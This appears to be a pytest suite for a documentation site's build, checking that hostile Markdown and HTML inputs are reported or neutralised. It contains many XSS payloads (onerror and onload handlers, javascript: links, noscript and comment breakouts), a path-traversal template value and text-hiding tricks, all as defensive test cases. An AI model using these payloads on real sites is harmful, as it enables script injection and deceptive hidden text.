    Reported("line-numbers-from-css", '<span data-linenos="&#91;@clark2016faulty] Text from CSS."></span>A sentence.\n',
             {f"{PAGE}:5:1: HTM006 unsafe data-linenos attribute on <span>, whose value the theme's style sheet shows as "
              "text no check reads"}),
    Reported("annotation-hides-a-list", "Agents find loopholes (1).[@clark2016faulty]\n{ .annotate }\n\n"
             "1. A note.[@clark2016faulty]\n2. A claim readers never see.[@hubinger2019risks]\n",
             {f"{PAGE}:6:4: HTM006 unsafe class 'annotate' on <p>, which the theme's scripts take for their own element "
              "(it hides the list after it, as the block's annotations)"}),
    Reported("popover-hides-a-claim", "An imperfect proxy.[@clark2016faulty]\n{: popover }\n",
             {f"{PAGE}:6:4: HTM006 unsafe popover attribute on <p>, {HIDES}"}),
    Reported("dialog-and-white-font", "<dialog>A claim in a closed dialog.</dialog>\n\n"
             '<font color="#ffffff">White text.</font>\n',
             {f"{PAGE}:5:1: HTM006 unsafe <dialog> element, {HIDES}",
              f"{PAGE}:7:1: HTM006 unsafe <font> element, {HIDES}",
              f"{PAGE}:7:1: HTM006 unsafe color attribute '#ffffff' on <font>, {HIDES}"}),
    # A helper's sixth round: text readers see that the checks did not read, and the reverse.
    Reported("literal-between-direction-marks", "Bidi test: \u200f@]\u200fclark2016faulty\u200f[\u200f and more.\n",
             {f"{PAGE}:5:12: HTM006 unsafe bidi control character in '\\u200f@]\\u200fclark2016faulty\\u200f[\\u200f and "
              "more', which shows the text in another order than it is written"}),
    Reported("literal-in-shown-attributes", 'A box: <input value="&#91;@clark2016faulty]"> and '
             '<img alt="&#91;@hubinger2019risks]" src="nope.png">.\n',
             {f"{PAGE}:5:22: HTM001 '[@clark2016faulty]' is shown as literal text",
              f"{PAGE}:5:61: HTM001 '[@hubinger2019risks]' is shown as literal text", shows(5, 8, "input")}),
    Reported("words-readers-never-see", "Learned rewards are <rp>not </rp>exploitable.[@clark2016faulty] "
             "<datalist><option>not</option></datalist>\n",
             {f"{PAGE}:5:21: HTM006 unsafe <rp> element, {HIDES}", f"{PAGE}:5:65: HTM006 unsafe <datalist> element, {HIDES}"}),
    Reported("theme-class-hides-words", 'Rewards are <span class="md-toggle">never </span>exploitable.[@clark2016faulty] '
             '<span class="tabbed-block">only in toys</span>\n',
             {f"{PAGE}:5:13: HTM006 unsafe class 'md-toggle' on <span>, one of the theme's, whose style sheet may hide the text or show it apart: use Markdown",
              f"{PAGE}:5:81: HTM006 unsafe class 'tabbed-block' on <span>, one of the theme's, whose style sheet may hide the text or show it apart: use Markdown"}),
    Reported("word-in-separator-class", 'Reward models are <span class="cite-sep">never</span> useful.[@clark2016faulty]\n',
             {f"{PAGE}:5:42: HTM006 unsafe text 'never' {SMALL}"}),
    Reported("drawn-marker-in-image-map", 'Overfit.<img src="nope.png" usemap="#m" width="20" height="20" alt="1">'
             '<map name="m"><area shape="rect" coords="0,0,20,20" href="#fn:hubinger2019risks" alt="1"></map>\n',
             {f"{PAGE}:5:86: HTM002 footnote link '#fn:hubinger2019risks' leads to a source's footnote, but no citation "
              "wrote it: cite the source with [@key]", f"{PAGE}:5:72: HTM006 unsafe <map> element, {HIDES}"}),
    Reported("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>\n',
             {element(5, 1, "iframe"), handler(5, 1, "srcdoc", "iframe")}),
    # Markup that reaches around the article: the parser gives a <body onload> to the page's own
    # <body>, and after a </article> what follows stands outside the article.
    Reported("body-onload", "<body onload=alert(1)></body>\n", {handler(5, 1, "onload", "body")}),
    Reported("html-handler", "<html onmouseover=alert(1)></html>\n", {handler(5, 1, "onmouseover", "html")}),
    Reported("end-of-article", "</article></div><img src=x onerror=alert(1)>\n",
             {handler(5, 17, "onerror", "img"), f"{PAGE}:5:1: HTM006 unsafe end tag '</article>' closes the theme's "
              f"element around the page's content: {LEAVES}"}),
    Reported("svg-onload", '<svg onload="alert(1)"></svg>\n', {handler(5, 1, "onload", "svg"), shows(5, 1, "svg")}),
    # Browsers read an <image> tag as <img>; in a table or a select lexbor dropped it, and the
    # build passed a page on which Chromium ran the onerror.
    Reported("table-image", "<table><image src=x onerror=alert(1)></table>\n", {handler(5, 8, "onerror", "img")}),
    Reported("select-image", "<select><IMAGE/src=x onerror=alert(1)></select>\n",
             {handler(5, 9, "onerror", "img"), f"{PAGE}:5:1: HTM006 unsafe <select> element, {HIDES}"}),
    # A marker drawn in raw HTML without its id: readers see a citation that leads nowhere.
    Reported("drawn-marker", 'Said <sup><a class="footnote-ref" href="#fn:ghost">3</a></sup>.\n',
             {f"{PAGE}:5:11: HTM002 footnote link '#fn:ghost' leads to no footnote"}),
    # A word joiner, which readers do not see, kept Markdown from reading a footnote reference: the
    # page showed "[^clark2016faulty]" (a helper's case).
    Reported("joined-footnote-reference", "Said.[\u2060^clark2016faulty]\n", {literal(5, 6, "[^clark2016faulty]")}),
    Reported("joined-citation", "Said.[\u2060@nokey2024]\n", {literal(5, 6, "[@nokey2024]")}),
    # Characters readers do not see, or see as "[" and "@" (a helper's cases): Hangul fillers and a
    # combining grapheme joiner, which are no format characters, and fullwidth forms.
    Reported("hangul-filler-citation", "Said.[\u3164@clark2016faulty]\n", {literal(5, 6, "[@clark2016faulty]")}),
    Reported("grapheme-joiner-citation", "Said.[\u034f@clark2016faulty]\n",
             {f"{PAGE}:5:8: CIT003 '@clark2016faulty' inside '[\u034f@clark2016faulty]' is not a citation"}),
    Reported("fullwidth-brackets", "Said.\uff3b@clark2016faulty\uff3d\n", {literal(5, 6, "[@clark2016faulty]")}),
    Reported("fullwidth-at", "Said.[\uff20clark2016faulty]\n", {literal(5, 6, "[@clark2016faulty]")}),
    # An escaped citation shows the syntax on a contributor's page; on a page that makes claims it
    # is a citation that leads nowhere (a helper's case, with a key bib/ does not have).
    Reported("escaped-citation", "A corrigible agent accepts correction.\\[@nosuchkey2024]\n",
             {f"{PAGE}:5:39: HTM001 '[@nosuchkey2024]' is escaped, so readers of this page, which makes claims, "
              "see it as a literal citation: cite the source, or write the syntax as code (`[@nosuchkey2024]`)"}),
    # Without the marker's class too (a helper's case): a link to a footnote is a marker to readers.
    Reported("drawn-marker-without-class", 'Said <sup><a href="#fn:ghost">9</a></sup>.\n',
             {f"{PAGE}:5:11: HTM002 footnote link '#fn:ghost' leads to no footnote"}),
    Reported("svg-image", '<svg><image href="x" onerror="alert(1)"></image></svg>\n',
             {handler(5, 6, "onerror", "image"), shows(5, 1, "svg")}),
    Reported("details-ontoggle", '<details open ontoggle="alert(1)"><summary>s</summary>x</details>\n',
             {handler(5, 1, "ontoggle", "details")}),
    # Inert here, live in a script; a browser with scripting on reads <noscript> as raw text, so
    # the "attribute" below closes it and the <img> runs.
    Reported("template", "<template><img src=x onerror=alert(1)></template>\n", {element(5, 1, "template")}),
    Reported("noscript-breakout", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></p></noscript>\n',
             {element(5, 1, "noscript"), title(5, 11, "</noscript><img src=x onerror=alert(1)>", "p")}),
    # "<!-->" is a whole comment to a browser; "--!>" closes one.
    Reported("abrupt-comment", "<!--><img src=x onerror=alert(1)>-->\n", {handler(5, 6, "onerror", "img")}),
    Reported("bang-comment-close", "<!-- hidden --!><img src=x onerror=alert(1)>\n",
             {handler(5, 17, "onerror", "img")}),
    # Markdown links and images.
    Reported("markdown-link", "A [link](javascript:alert(1)) here.\n", {link(5, 10, "javascript:alert(1)")}),
    Reported("markdown-link-upper-case", "A [link](JaVaScRiPt:alert(1)) here.\n",
             {link(5, 10, "JaVaScRiPt:alert(1)")}),
    Reported("markdown-link-reference", "A [link](&#106;avascript:alert(1)) here.\n",
             {link(5, 10, "javascript:alert(1)")}),
    Reported("markdown-link-angle-brackets", "A [link](<javascript:alert(1)>) here.\n",
             {link(5, 11, "javascript:alert(1)")}),
    Reported("markdown-image", "An ![image](javascript:alert(1)) here.\n",
             {link(5, 13, "javascript:alert(1)", "src", "img")}),
    Reported("markdown-data-link", "A [link](data:text/html;base64,PHNjcmlwdD4=) here.\n",
             {link(5, 10, "data:text/html;base64,PHNjcmlwdD4=")}),
    Reported("markdown-data-image", "An ![image](data:image/svg+xml,<svg onload=alert(1)>) here.\n",
             {link(5, 13, "data:image/svg+xml,<svg onload=alert(1)>", "src", "img")}),
    Reported("reference-style-link", "A [link][x] here.\n\n[x]: javascript:alert(1)\n",
             {link(7, 6, "javascript:alert(1)")}),
    Reported("reference-style-with-title", 'A [link][x] here.\n\n[x]: vbscript:msgbox(1) "title"\n',
             {link(7, 6, "vbscript:msgbox(1)")}),
    Reported("same-link-twice", "A [one](javascript:a) and [two](javascript:a) here.\n",
             {link(5, 9, "javascript:a"), link(5, 33, "javascript:a")}),
    Reported("autolink-javascript", "An autolink <javascript:alert(1)> here.\n",
             {autolink(5, 13, "javascript:alert(1)")}),
    Reported("autolink-data", "An autolink <data:text/html,hi> here.\n", {autolink(5, 13, "data:text")}),
    Reported("attr-list-handler", 'A [link](https://example.org){ onclick="alert(1)" } here.\n',
             {handler(5, 41, "onclick", "a")}),
    Reported("attr-list-href", 'A [link](https://example.org){ href="javascript:alert(1)" } here.\n',
             {link(5, 38, "javascript:alert(1)")}),
    Reported("attr-list-on-heading", '## Heading { onmouseover="alert(1)" }\n\nText.\n',
             {handler(5, 27, "onmouseover", "h2")}),
    Reported("md-in-html-link", '<div markdown="1">\n\nA [link](javascript:alert(1)) here.\n\n</div>\n',
             {link(7, 10, "javascript:alert(1)")}),
    Reported("unsafe-link-in-footnote-aside",
             'A remark.[^aside]\n\n[^aside]: An aside <a href="javascript:alert(1)">here</a>.[@clark2016faulty]\n',
             {link(7, 20, "javascript:alert(1)")}),
    # Citations where readers would see no marker: once HTM005 on the rendered page at the "@", now
    # CIT004 from the Markdown scanner at the "[" (Python-Markdown says an attribute holds it).
    Reported("citation-in-attribute", '<span title="Said by [@hubinger2019risks]">hover</span> text.\n',
             {in_attribute(5, 22, "[@hubinger2019risks]")}),
    Reported("citation-in-single-quoted-attribute", "<abbr title='x [@clark2016faulty]'>x</abbr> text.\n",
             {in_attribute(5, 16, "[@clark2016faulty]")}),
    Reported("citation-in-alt-text", "An ![diagram [@hubinger2019risks]](d.png) here.\n",
             {in_attribute(5, 14, "[@hubinger2019risks]")}),
    Reported("citation-in-raw-alt", '<img src="d.png" alt="[@hubinger2019risks]">\n',
             {in_attribute(5, 23, "[@hubinger2019risks]")}),
    Reported("citation-in-link-title", 'A [link](https://example.org "see [@hubinger2019risks]") here.\n',
             {in_attribute(5, 35, "[@hubinger2019risks]")}),
    # A marker inside a link's text would nest a link in a link, which a browser cuts in two: once
    # rendered so, now refused at the key.
    Reported("citation-in-link-text", "A [link with a source [@hubinger2019risks]](https://example.org) here.\n",
             {f"{PAGE}:5:24: CIT003 citation '[@hubinger2019risks]' stands inside a link's text, where its marker "
              "would break the link; move it after the link"}),
    Reported("citation-in-raw-html-block", "<div>\nA claim in raw HTML.[@hubinger2019risks]\n</div>\n",
             {literal(6, 22, "[^hubinger2019risks]")}),
    # Text a hand-written scanner once took for code (the typo was then found only as literal text
    # on the rendered page): Python-Markdown now says it is prose, so the typo is an unknown key.
    Reported("line-starting-with-a-triple-backtick-span", "```code span``` then a typo.[@hubingr2019risks]\n",
             {unknown_key(5, 30, "hubingr2019risks", "hubinger2019risks")}),
    Reported("indented-code-starting-with-backticks", "    ```\n    code\n\nA typo.[@typo2019x]\n",
             {unknown_key(8, 9, "typo2019x")}),
    # Markup that leaves the page's content: an end tag that closes the theme's article, or a quote left
    # open, would carry what the theme writes after the content (the footer) into the page's markup. (The
    # quote takes in the footnotes after it: their markers point at none.)
    Reported("closes-the-theme-article", "<div>\n</article><span lang='\n</div>\n",
             {f"{PAGE}:6:1: HTM006 unsafe end tag '</article>' closes the theme's element around the page's "
              f"content: {LEAVES}", *SWALLOWED}),
    Reported("leaves-a-quote-open", "Text.\n\n<div>\n<span lang='\n</div>\n",
             {f"{PAGE}:8:1: HTM006 unsafe markup \"<span lang='\" is left open at the end of the page's content: "
              f"{LEAVES}", *SWALLOWED}),
    Reported("closes-the-theme-main", "<div>\n<p>Inside.</p></main><p>After.</p>\n</div>\n",
             {f"{PAGE}:6:15: HTM006 unsafe end tag '</main>' closes the theme's element around the page's "
              f"content: {LEAVES}"}),
    # Front matter, line endings and byte-order marks do not move a place.
    Reported("front-matter-unsafe-link", FRONT + HEAD + '<a href="javascript:alert(1)">x</a>\n',
             {link(9, 1, "javascript:alert(1)")}),
    Reported("front-matter-citation-in-attribute", FRONT + HEAD + '<span title="[@hubinger2019risks]">x</span>\n',
             {in_attribute(9, 14, "[@hubinger2019risks]")}),
    Reported("front-matter-raw-html-block", FRONT + HEAD + "<div>\nA claim.[@clark2016faulty]\n</div>\n",
             {literal(10, 10, "[^clark2016faulty]")}),
    Reported("crlf", (HEAD + '<a href="javascript:alert(1)">x</a>\n\n<span title="[@clark2016faulty]">x</span>\n')
             .replace("\n", "\r\n"), {link(5, 1, "javascript:alert(1)"), in_attribute(7, 14, "[@clark2016faulty]")}),
    Reported("front-matter-crlf", (FRONT + HEAD + '<a href="javascript:alert(1)">x</a>\n').replace("\n", "\r\n"),
             {link(9, 1, "javascript:alert(1)")}),
    Reported("cr-only", (HEAD + '<a href="javascript:alert(1)">x</a>\n').replace("\n", "\r"),
             {link(5, 1, "javascript:alert(1)")}),
    Reported("byte-order-mark", "\ufeff" + HEAD + '<a href="javascript:alert(1)">x</a>\n',
             {link(5, 1, "javascript:alert(1)")}),
    Reported("byte-order-mark-front-matter", "\ufeff" + FRONT + HEAD + '<a href="javascript:alert(1)">x</a>\n',
             {link(9, 1, "javascript:alert(1)")}),
]


# The whole page of a case: its text after the usual head, unless it brings its own.
def page_text(text: str) -> str:
    return text if text.startswith(("---", "\ufeff", "# A page")) else HEAD + text


# Every case above and below as its own page of one site, built once per test process as
# `make serve` builds (every page written, problems reported, not fatal): a case's problems are
# those its page's path names, written with PAGE for that path.
@dataclass
class Corpus:
    site: Path
    problems: dict[str, set[str]]


def build_corpus(root: Path) -> Corpus:
    pages = {f"claims/{case.id}.md": page_text(case.text) for case in REPORTED}
    pages |= {f"claims/{case.id}.md": HEAD + case.text for case in BUILDS}
    assert len(pages) == len(REPORTED) + len(BUILDS), "case ids must be unique"
    config = write_site(root, pages, config=base_config())
    build_site(config, root / "site", command="serve", strict=False)
    problems: dict[str, set[str]] = {}
    for line in PROBLEM_LINE.findall(state.report.format()):
        path = line.split(":", 1)[0]
        problems.setdefault(path.removeprefix("docs/claims/").removesuffix(".md"), set()).add(
            line.replace(path, PAGE, 1))
    return Corpus(root / "site", problems)


def test_the_corpus_reports_problems_only_on_its_reported_pages(hostile_corpus):
    assert set(hostile_corpus.problems) == {case.id for case in REPORTED}


@pytest.mark.parametrize("case", REPORTED, ids=lambda case: case.id)
def test_hostile_markup_is_reported_at_its_exact_place(case, hostile_corpus):
    assert hostile_corpus.problems.get(case.id, set()) == case.expected


# -----------------------------------------------------------------------------
# Cases that must build with nothing lost and nothing unsafe
# -----------------------------------------------------------------------------


@dataclass
class Builds:
    id: str
    text: str
    # Text the article must show, and the footnote items it must list.
    shows: list[str] = field(default_factory=list)
    footnotes: list[str] = field(default_factory=lambda: ["hubinger2019risks", "clark2016faulty"])


BUILDS = [
    # Comments hide what they hold; the tree builder moves <mglyph> out of the <table> into HTML,
    # where <style> is raw text: one parse, by lexbor as by a browser, gives no <img>.
    Builds("comment-hides-a-script", "<!-- <script>alert(1)</script> -->\n\nText after the comment.\n",
           ["Text after the comment."]),
    Builds("nul-in-scheme", '<a href="java\x00script:alert(1)">a NUL breaks the scheme</a>\n',
           ["a NUL breaks the scheme"]),
    Builds("heading-quoting-harmless-markup", "## A &lt;b&gt; part, and 1 < 2\n\nText.\n", ["Text."]),
    Builds("link-title-with-quotes-and-tags", 'A [link](https://example.org "a \\"quoted\\" <b>title</b>") here.\n',
           ["A link here."]),
    Builds("locator-with-markup", "A claim.[@hubinger2019risks, <img src=x onerror=alert(1)>]\n",
           ["<img src=x onerror=alert(1)>"]),
    # Citations in every kind of block keep their marker.
    Builds("citation-in-heading", "## A heading with a source [@hubinger2019risks]\n\nText.\n",
           ["A heading with a source"]),
    Builds("citation-in-table", "| a | b |\n|---|---|\n| claim [@hubinger2019risks] | c |\n", ["claim"]),
    Builds("citation-in-admonition", '!!! note "Title"\n\n    A claim in a note.[@hubinger2019risks]\n',
           ["Title", "A claim in a note."]),
    Builds("citation-in-admonition-title", '!!! note "Title [@hubinger2019risks]"\n\n    A note.\n',
           ["Title", "A note."]),
    Builds("citation-in-footnote-aside", "A remark.[^aside]\n\n[^aside]: An aside that cites.[@clark2016faulty]\n",
           ["A remark.", "An aside that cites."], ["aside", "hubinger2019risks", "clark2016faulty"]),
    Builds("citation-in-md-in-html", '<div markdown="1">\n\nA claim in a div.[@hubinger2019risks]\n\n</div>\n',
           ["A claim in a div."]),
    Builds("citation-in-raw-code", "Code: <code>[@hubinger2019risks]</code> here.\n",
           ["Code: [@hubinger2019risks] here."]),
]


@pytest.mark.parametrize("case", BUILDS, ids=lambda case: case.id)
def test_hostile_markup_builds_with_nothing_lost_and_nothing_unsafe(case, hostile_corpus):
    assert hostile_corpus.problems.get(case.id, set()) == set()
    page = f"claims/{case.id}.md"
    text = safe_article_text(hostile_corpus.site, page)
    for shown in case.shows:
        assert shown in text
    assert "[@" not in text.replace("[@hubinger2019risks]", "", 1 if "raw-code" in case.id else 0)
    assert footnote_labels(hostile_corpus.site, page) == case.footnotes


# A page citing one source, with the other kept uncited in bib/.
def one_source_site(root, text: str):
    config = base_config()
    config["extra"]["citations"]["uncited_sources"] = {"clark2016faulty": "kept for a test"}
    return write_site(root, {"claims/page.md": "# A page\n\nA claim.[@hubinger2019risks]\n\n" + text}, config=config)


def test_aside_labelled_with_a_source_key_is_refused_and_its_markup_blamed_on_the_page(tmp_path):
    config = one_source_site(tmp_path, "A remark.[^clark2016faulty]\n\n[^clark2016faulty]: Made up "
                                       "<img src=x onerror=alert(1)>.[@hubinger2019risks]\n")
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:7:1: FTN003 footnote 'clark2016faulty' takes the key of a source in bib/; give the aside its own "
        "label",
        handler(7, 29, "onerror", "img")}


def test_unsafe_markup_in_an_aside_is_blamed_on_the_page_not_on_bib(tmp_path):
    config = one_source_site(tmp_path, 'A remark.[^note]\n\n[^note]: See <a href="javascript:alert(1)">this</a>.'
                                       "[@hubinger2019risks]\n")
    assert problems_of(config, tmp_path / "site") == {link(7, 14, "javascript:alert(1)")}


# On a page that makes no claims (claims/ does), an escaped citation shows the syntax as written.
def test_documented_escape_shows_the_citation_as_written(tmp_path):
    config = write_site(tmp_path, {"notes/page.md": HEAD + "Write \\[@hubinger2019risks] to cite.\n"})
    assert problems_of(config, tmp_path / "site") == set()
    assert "Write [@hubinger2019risks] to cite." in safe_article_text(tmp_path / "site", "notes/page.md")
    assert footnote_labels(tmp_path / "site", "notes/page.md") == ["hubinger2019risks", "clark2016faulty"]


def test_citation_followed_by_a_colon_is_a_citation(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": HEAD + "A claim.[@hubinger2019risks]: and more.\n"})
    assert problems_of(config, tmp_path / "site") == set()
    assert "[@" not in safe_article_text(tmp_path / "site")
    paragraph = next(p for p in built(tmp_path / "site").css("article p") if "and more" in p.text())
    assert paragraph.css_first('a.footnote-ref[href="#fn:hubinger2019risks"]') is not None


def test_citation_in_heading_keeps_its_marker_and_leaves_the_table_of_contents_clean(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": HEAD + "## A heading with a source [@hubinger2019risks]\n"})
    assert problems_of(config, tmp_path / "site") == set()
    tree = built(tmp_path / "site")
    heading = tree.css_first("article h2")
    assert heading.css_first('a.footnote-ref[href="#fn:hubinger2019risks"]') is not None
    toc = {" ".join(a.text().split()) for a in tree.css('nav.md-nav--secondary a.md-nav__link')}
    assert toc == {"A heading with a source"}
    assert "\ue002" not in tree.html


# Once rendered as a marker nested in the link (a browser cut the link at it); now reported, and
# a preview keeps the link whole with the citation shown as typed.
def test_citation_in_link_text_is_reported_and_the_link_stays_whole(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": HEAD + "A [link [@hubinger2019risks]](https://e.org) x.\n"})
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:5:10: CIT003 citation '[@hubinger2019risks]' stands inside a link's text, where its marker would "
        "break the link; move it after the link"}
    links = built(tmp_path / "site").css('article a[href="https://e.org"]')
    assert [" ".join(a.text().split()) for a in links] == ["link [@hubinger2019risks]"]
    assert dangers(built(tmp_path / "site").css_first("article")) == []


# Thousands of unsafe tags are reported in linear time (each problem's place is one index step,
# and a page's line starts are counted once): eight times the page, well under twenty times the time.
def test_many_unsafe_tags_are_reported_in_linear_time(tmp_path):
    timings = {}
    for count in (500, 2000):
        lines = "".join(f'<a href="javascript:a{n % 7}">x</a> <img src=x onerror=f()>\n' for n in range(count))
        config = write_site(tmp_path / str(count), {"claims/page.md": HEAD + lines})
        started = time.process_time()  # this process's own work: the other test worker's load is not counted
        problems = problems_of(config, tmp_path / str(count) / "site")
        timings[count] = time.process_time() - started
        assert len(problems) == 2 * count
        assert link(5 + count - 1, 1, f"javascript:a{(count - 1) % 7}") in problems
    # Four times the tags: linear is about 4x the time, quadratic 16x.
    assert timings[2000] < 10 * timings[500], timings


# -----------------------------------------------------------------------------
# Pages that are not UTF-8
# -----------------------------------------------------------------------------


def test_page_that_is_not_utf8_is_named_at_its_first_bad_byte_and_still_built(tmp_path):
    latin1 = (HEAD + "The caf\xe9 sign.\n").encode("latin-1")
    config = write_site(tmp_path, {"claims/page.md": latin1, "claims/other.md": HEAD})
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:5:8: PAG003 the page is not UTF-8: byte 0xe9 here cannot be read (it was shown as \ufffd)"}
    assert "The caf\ufffd sign." in safe_article_text(tmp_path / "site")
    assert "Another." in safe_article_text(tmp_path / "site", "claims/other.md")


def test_page_that_is_not_utf8_keeps_its_other_problems_exact_counting_front_matter(tmp_path):
    page = ("---\ntitle: Caf\xe9\n---\n" + HEAD + '<a href="javascript:alert(1)">x</a>\n').encode("cp1252")
    config = write_site(tmp_path, {"claims/page.md": page})
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:2:11: PAG003 the page is not UTF-8: byte 0xe9 here cannot be read (it was shown as \ufffd)",
        link(8, 1, "javascript:alert(1)")}


def test_page_with_a_byte_order_mark_and_a_bad_byte_counts_from_the_text(tmp_path):
    page = b"\xef\xbb\xbf" + HEAD.encode() + b"Bad \xff\xfe bytes.\n"
    config = write_site(tmp_path, {"claims/page.md": page})
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:5:5: PAG003 the page is not UTF-8: byte 0xff here cannot be read (it was shown as \ufffd)"}


# MkDocs drops one byte order mark: a second one made the page's heading a line of text and its title
# the file's name, with no error. It is reported, and the page is built with its heading.
def test_a_page_with_two_byte_order_marks_is_reported_and_keeps_its_heading(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": b"\xef\xbb\xbf" * 2 + HEAD.encode()})
    assert problems_of(config, tmp_path / "site") == {
        f"{PAGE}:1:1: PAG003 the page starts with more than one byte order mark (U+FEFF), which made its first "
        "line text, not a heading (the build left them out)"}
    article = built(tmp_path / "site", "claims/page.md")
    assert [" ".join(h1.text().split()) for h1 in article.css("h1")] == ["A page"]


def test_serve_reports_a_page_that_is_not_utf8_and_keeps_serving(tmp_path, caplog):
    config = write_site(tmp_path, {"claims/page.md": (HEAD + "Caf\xe9.\n").encode("latin-1")})
    build_site(config, tmp_path / "site", command="serve", strict=False)
    assert f"{PAGE}:5:4: PAG003" in caplog.text
    assert (tmp_path / "site" / "claims" / "page" / "index.html").exists()


# -----------------------------------------------------------------------------
# Front matter MkDocs itself would stop on
# -----------------------------------------------------------------------------

TEMPLATES = [
    ("missing", "template: mian.html", "front matter names template 'mian.html', which the theme does not have"),
    ("outside-the-theme", "template: ../../../../etc/passwd",
     "front matter names template '../../../../etc/passwd', which the theme does not have"),
    ("not-a-name", "template: [main.html]", "front matter 'template' must be a template's name, not ['main.html']"),
    # Templates the theme has, which cannot render a page or leave its content out: partials, the 404 page and
    # another plugin's page (a helper's cases: MkDocs stopped with a traceback, or wrote the page without it).
    ("a-partial", "template: partials/toc.html", "front matter names template 'partials/toc.html', which cannot "
     "render this page (UndefinedError: 'lang' is undefined): leave 'template' out, or name a template made for "
     "pages, such as main.html"),
    ("another-plugins-page", "template: blog-post.html", "front matter names template 'blog-post.html', which "
     "cannot render this page (TemplateAssertionError: No filter named 'date'.): leave 'template' out, or name a "
     "template made for pages, such as main.html"),
    ("without-the-content", "template: partials/footer.html", "front matter names template 'partials/footer.html', "
     "which does not show the page's content: leave 'template' out, or name a template made for pages, such as "
     "main.html"),
]


# Front matter the theme would write into the page unsafely is named at its line and never
# reaches the page: keys Material writes raw, given as a list or mapping, which would reach the
# page as their Python form (PAG006; the fixture front-matter-not-text covers `description`), and
# keys the site does not read (PAG007): one of Material's the site does not use, and the hooks'
# own, which go into the page as they are (without git, the page dates leave revision_date_text
# to the front matter).
UNSAFE_FRONT_MATTER = [
    ("author", "author: {x: '\"><b>y</b>'}", "PAG006"),
    ("status", "status: ['\"><img src=x onerror=alert(2)>']", "PAG006"),
    ("location", "location: '\"]);alert(1);//'", "PAG007"),
    ("sources_jsonld", "sources_jsonld: '</script><script>alert(1)</script>'", "PAG007"),
    ("revision_date_text", "revision_date_text: '<img src=x onerror=alert(1)>'", "PAG007"),
    ("icon", "icon: material/alert", "PAG007"),
]


@pytest.mark.parametrize("key, line, code", UNSAFE_FRONT_MATTER, ids=[key for key, _, _ in UNSAFE_FRONT_MATTER])
def test_front_matter_the_theme_would_write_unsafely_is_named_and_never_reaches_the_page(key, line, code, tmp_path):
    config = write_site(tmp_path, {"claims/page.md": f"---\n{line}\n---\n" + HEAD})
    problems = problems_of(config, tmp_path / "site")
    assert len(problems) == 1 and problems.pop().startswith(f"{PAGE}:2:1: {code} front matter '{key}'"), problems
    tree = built(tmp_path / "site")
    assert_document_safe(tree)
    assert "onerror" not in tree.html and "<b>y" not in tree.html and "alert(" not in tree.html


@pytest.mark.parametrize("case, line, message", TEMPLATES, ids=[case for case, _, _ in TEMPLATES])
def test_template_the_theme_does_not_have_is_named_at_its_line_and_the_page_still_built(case, line, message,
                                                                                       tmp_path):
    config = write_site(tmp_path, {"claims/page.md": f"---\ntitle: A page\n{line}\n---\n" + HEAD})
    assert problems_of(config, tmp_path / "site") == {f"{PAGE}:3:1: PAG004 {message}"}
    assert "Another." in safe_article_text(tmp_path / "site")


def test_template_the_theme_has_builds(tmp_path):
    config = write_site(tmp_path, {"claims/page.md": "---\ntemplate: main.html\n---\n" + HEAD})
    assert problems_of(config, tmp_path / "site") == set()


# MkDocs shows front matter it cannot read as text: it is reported where YAML stops, and the lines
# of the page's other problems still count from the file's first line.
def test_front_matter_that_is_not_yaml_is_reported_and_lines_still_count(tmp_path):
    page = "---\ntitle: [unclosed\n---\n" + HEAD + '<a href="javascript:x">x</a>\n'
    config = write_site(tmp_path, {"claims/page.md": page})
    assert problems_of(config, tmp_path / "site") == {
        link(8, 1, "javascript:x"),
        f"{PAGE}:3:1: PAG006 the front matter is not YAML that MkDocs reads (did not find expected ',' or ']'): "
        "MkDocs left all of it out (no title, no description) and showed it as text; write each value as plain text"}


# -----------------------------------------------------------------------------
# Front matter the theme writes as raw HTML, JSON-LD and Scholar tags
# -----------------------------------------------------------------------------

SOURCES_PAGE = '# Sources\n\n<div class="sources-list"></div>\n'
HOSTILE_TITLE = 'Evil </title></script><!-- <script>alert(1)</script> & "q" \u2028'


# A site with every citation hook and the project's templates; claims/ pages are explainers.
def full_config(**changes) -> dict:
    config = base_config(hooks=ALL_HOOKS, **changes)
    config["theme"]["custom_dir"] = str(ROOT / "overrides")
    config["extra"]["citations"]["explainers"] = ["claims/"]
    return config


# Nothing in the whole document runs a script: no on* attribute, no script that is not the
# theme's (its inline set-up, its bundles, our JSON-LD).
def assert_document_safe(tree) -> None:
    for node in tree.root.traverse():
        assert not any(name.lower().startswith("on") for name in (node.attributes or {})), node.html
    for script in tree.css("script"):
        assert "alert" not in (script.text() or "") or script.attributes.get("type") == "application/ld+json"


def json_ld(tree) -> dict:
    scripts = tree.css('head script[type="application/ld+json"]')
    assert len(scripts) == 1
    return json.loads(scripts[0].text())


def test_front_matter_title_with_markup_shows_as_written_on_every_page(tmp_path):
    page = "---\ntitle: " + json.dumps(HOSTILE_TITLE) + "\n---\n" + HEAD
    config = write_site(tmp_path, {"claims/page.md": page, "claims/other.md": HEAD, "sources.md": SOURCES_PAGE},
                        config=full_config())
    assert problems_of(config, tmp_path / "site") == set()
    for src in ("claims/page.md", "claims/other.md", "sources.md"):
        tree = built(tmp_path / "site", src)
        assert_document_safe(tree)
        assert " ".join(HOSTILE_TITLE.split()) in [" ".join(a.text().split()) for a in tree.css("nav a")]
    tree = built(tmp_path / "site")
    assert tree.css_first("title").text() == f"{HOSTILE_TITLE} - Fixture"
    assert json_ld(tree)["headline"] == HOSTILE_TITLE


# Description and author stay inside their attribute; the subtitle, which Material writes into the
# navigation as it is, shows there as written, as text.
def test_front_matter_description_author_and_subtitle_show_as_written_and_hold_no_markup(tmp_path):
    description = '"><script>alert(1)</script><meta name="x'
    author = "O'Neil \"the\" <b>author</b>"
    subtitle = "<b>sub</b> & more"  # markup that runs is reported: test_front_matter_title_read_as_markup_...
    page = (f"---\ndescription: {json.dumps(description)}\nauthor: {json.dumps(author)}\n"
            f"subtitle: {json.dumps(subtitle)}\n---\n" + HEAD)
